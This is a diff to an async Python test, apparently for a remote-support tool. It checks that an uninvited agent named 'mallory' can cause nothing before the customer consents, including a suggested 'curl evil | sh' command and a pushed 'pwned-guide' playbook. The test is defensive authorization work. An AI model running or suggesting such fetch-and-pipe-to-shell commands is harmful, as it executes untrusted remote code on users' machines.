@@ -137,6 +137,7 @@ async def test_an_invited_agent_gets_and_causes_nothing_before_the_customer_allo
         await mallory.send(m.Suggest(1, "curl evil | sh"))
         await mallory.send(m.RecordRequest(True))
         await mallory.send(m.Pointer(0, 3))
+        await mallory.send(m.PushPlaybook({"title": "pwned-guide", "steps": [{"title": "run curl evil"}]}))
         await mallory.settle()
         await answer(customer, b"n")
         await mallory.expect(m.End, lambda end: end.reason == "viewer_refused")
@@ -145,7 +146,7 @@ async def test_an_invited_agent_gets_and_causes_nothing_before_the_customer_allo
         assert not mallory.all(m.Screen) and not mallory.all(m.Steps) and not mallory.all(m.InviteCode)
         assert not mallory.all(m.Chat) and not mallory.all(m.SuggestAnswer)
         shown = "\n".join(customer.stderr_lines)
-        for needle in ("pwned", "CONTROL", "RECORD", "curl evil", "points at"):
+        for needle in ("pwned", "CONTROL", "RECORD", "curl evil", "points at", "started a guide"):
             assert needle not in shown, needle
         assert shown.count("invited a colleague") == 1  # Mallory's invitations opened nothing
         assert not any("pwned-2" in line for e in a.all("screen") for line in e["lines"])
